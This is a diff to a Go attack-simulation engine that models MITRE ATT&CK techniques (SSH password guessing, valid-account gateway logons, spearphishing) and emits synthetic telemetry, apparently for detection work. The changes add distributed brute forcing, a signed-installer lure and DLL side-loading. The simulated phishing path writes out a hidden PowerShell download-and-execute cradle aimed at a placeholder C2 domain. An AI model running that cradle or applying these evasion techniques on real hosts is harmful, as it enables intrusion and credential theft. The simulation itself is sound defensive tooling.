@@ -20,7 +20,7 @@ var initialAccess = []*Technique{
 	{
 		ID: "T1110.001", Name: "Brute Force: Password Guessing", Tactic: "credential-access", Platforms: []string{"linux"},
 		Needs: "an SSH server that can be reached", Effect: "a session on a host with a guessable password",
-		Telemetry: []string{"linux/sshd", "zeek/conn"}, Achieves: "control", Tools: []string{"hydra", "medusa", "patient script"}, Takes: sim.LogNormal(20*time.Second, 0.5), Success: 1,
+		Telemetry: []string{"linux/sshd", "zeek/conn"}, Achieves: "control", Tools: []string{"hydra", "medusa", "patient script", "distributed script"}, Takes: sim.LogNormal(20*time.Second, 0.5), Success: 1,
 		ready: func(s *State) error {
 			if !slices.ContainsFunc(s.Known, sshServer) {
 				return errors.New("no SSH server found yet")
@@ -32,13 +32,13 @@ var initialAccess = []*Technique{
 	{
 		ID: "T1078", Name: "Valid Accounts", Tactic: "initial-access", Platforms: []string{"windows"},
 		Needs: "a password bought or phished before, and the remote desktop gateway", Effect: "a session at the owner's workstation",
-		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"remote desktop gateway"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.97,
+		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"scripted client", "system client"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.97,
 		run: logOnThroughGateway,
 	},
 	{
 		ID: "T1566.001", Name: "Phishing: Spearphishing Attachment", Tactic: "initial-access", Platforms: []string{"windows"},
 		Needs: "mail reaches people", Effect: "an implant in the session of somebody who opened the attachment (T1204.002)",
-		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "windows/powershell", "zeek"}, Tools: []string{"macro", "lnk in zip", "one-note script"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.85,
+		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "windows/powershell", "zeek"}, Tools: []string{"macro", "lnk in zip", "one-note script", "signed installer"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.85,
 		run: phish,
 	},
 }
@@ -95,7 +95,10 @@ func guessPasswords(a *Attempt) Progress {
 		}
 		budget := a.Rand.For("budget " + a.Target.Name)
 		a.Count = int(budget.LogNormal(180, 0.9)) + 8
-		a.Bytes = uint64(budget.LogNormal(90, 1)) + 3 // guess that hits, on a weak host
+		a.Bytes = uint64(budget.LogNormal(45, 1)) + 3 // guess that hits, on a weak host
+	}
+	if a.Tool == "distributed script" {
+		a.State.Address = a.Round % len(a.Addresses)
 	}
 	if r := w.Reach(a.Source(), world.At(a.Target), 22); !r.OK() {
 		return blocked(r)
@@ -116,7 +119,7 @@ func guessPasswords(a *Attempt) Progress {
 		a.Avoid[a.Target.Name] = true
 		return Progress{Done: true, Refusal: onlyDefence(r), Note: fmt.Sprintf("%d guesses at %s without success", a.Round+1, a.Target.Name)}
 	}
-	mean := map[string]time.Duration{"hydra": time.Second, "medusa": 4 * time.Second, "patient script": 25 * time.Second}[a.Tool]
+	mean := map[string]time.Duration{"hydra": time.Second, "medusa": 4 * time.Second, "patient script": 40 * time.Second, "distributed script": 12 * time.Second}[a.Tool]
 	wait := time.Duration(float64(mean) * a.Slowdown * (0.4 + 0.6*a.Rand.Exp()))
 	if limit, action := w.RateLimit(a.Source().IP()); limit > wait {
 		if a.Rand.Bool(0.05 + 0.2*a.Skill) { // he notices that answers have become slow
@@ -152,7 +155,11 @@ func logOnThroughGateway(a *Attempt) Progress {
 		return blocked(r)
 	}
 	w.Flow(a.Now, a.Actor, world.Flow{From: a.Source(), To: world.At(gateway), Port: 443, Service: "ssl", Sent: 60e3, Received: 3e6, Duration: 15 * time.Minute})
-	w.TLS(a.Now, a.Actor, a.Source(), world.At(gateway), 443, "remote."+w.Domain, a.Hello, "CN=Public CA", "CN=remote."+w.Domain, true)
+	client := a.Hello
+	if a.Tool == "system client" {
+		client = world.SchannelHello
+	}
+	w.TLS(a.Now, a.Actor, a.Source(), world.At(gateway), 443, "remote."+w.Domain, client, "CN=Public CA", "CN=remote."+w.Domain, true)
 	if r := w.Reach(world.At(gateway), world.At(victim.Home), 3389); !r.OK() {
 		return blocked(r)
 	}
@@ -172,10 +179,14 @@ func (a *Attempt) implant(h *world.Host, who *world.Account, via *Foothold, port
 		folder = `C:\Users\` + who.Name + `\AppData\Local\Temp\`
 	}
 	name := sim.Pick(&a.Rand, []string{"OneDriveUpdater.exe", "svcupdate.exe", "tmp4a1.exe", "teamsync.exe", "dbghost.exe"})
-	file := world.Dropped(folder+name, &a.Rand)
-	shell := &world.Process{Host: h, PID: 4000, Binary: world.PowerShell, CommandLine: "powershell.exe", Account: who, Integrity: integrity, GUID: "{00000000-0000-0000-0000-000000000fa0}"}
+	file, starter := world.Dropped(folder+name, &a.Rand), world.PowerShell
+	if a.Rand.Bool(0.9 * a.Stealth) { // a signed program that loads the attacker's library
+		file, starter = world.Signed(folder+name, "Viewer Software Ltd"), world.Svchost
+	}
+	shell := &world.Process{Host: h, PID: 4000, Binary: starter, CommandLine: starter.Path, Account: who, Integrity: integrity, GUID: "{00000000-0000-0000-0000-000000000fa0}"}
 	a.World.CreateFile(a.Now, a.Actor, shell, file.Path)
 	i := a.World.Plant(a.Now+2*time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: file, CommandLine: `"` + file.Path + `"`, Integrity: integrity, Parent: shell})
+	a.World.LoadImage(a.Now+3*time.Second, a.Actor, i.Process, &world.Binary{Path: folder + "version.dll", OriginalName: "-", Company: "-", Product: "-", Description: "-", Version: "-"})
 	i.Files = []string{file.Path}
 	f := &Foothold{Host: h, Account: who, Implant: i, Via: via, Port: port, Since: a.Now, Elevated: i.Elevated}
 	a.gain(f)
@@ -209,19 +220,28 @@ func phish(a *Attempt) Progress {
 		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.zip")
 		explorer := &world.Process{Host: h, PID: 3300, Binary: world.Explorer, CommandLine: `C:\Windows\Explorer.EXE`, Account: victim, GUID: "{00000000-0000-0000-0000-000000000ce4}"}
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c start /b powershell`, Parent: explorer})
+	case "signed installer":
+		w.CreateFile(a.Now, a.Actor, outlook, downloads+"ViewerSetup.exe")
+		setup := world.Signed(downloads+"ViewerSetup.exe", "Viewer Software Ltd")
+		return a.phished(w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: setup}), victim)
 	default:
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
 	}
-	c2 := a.C2()
-	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", c2.Domain)
+	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
 	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
 	w.RunScript(a.Now+9*time.Second, a.Actor, h, script)
-	w.Resolve(a.Now+9*time.Second, a.Actor, h, shell, c2.Domain, "A", c2.Address)
+	return a.phished(shell, victim)
+}
+
+// phished lets what the victim started call home and leave an implant.
+func (a *Attempt) phished(p *world.Process, victim *world.Account) Progress {
+	w, h, c2 := a.World, p.Host, a.C2()
+	w.Resolve(a.Now+9*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
 	a.Hostile.MarkHost(h.Name)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
 		return blocked(r)
 	}
-	w.Flow(a.Now+10*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: shell, Sent: 2e3, Received: 400e3, Duration: 3 * time.Second})
+	w.Flow(a.Now+10*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 400e3, Duration: 3 * time.Second})
 	w.TLS(a.Now+10*time.Second, a.Actor, world.At(h), c2, 443, c2.Domain, a.Hello, "CN="+c2.Domain, "CN="+c2.Domain, false)
 	a.Now += 15 * time.Second
 	a.implant(h, victim, nil, 0, "Medium")
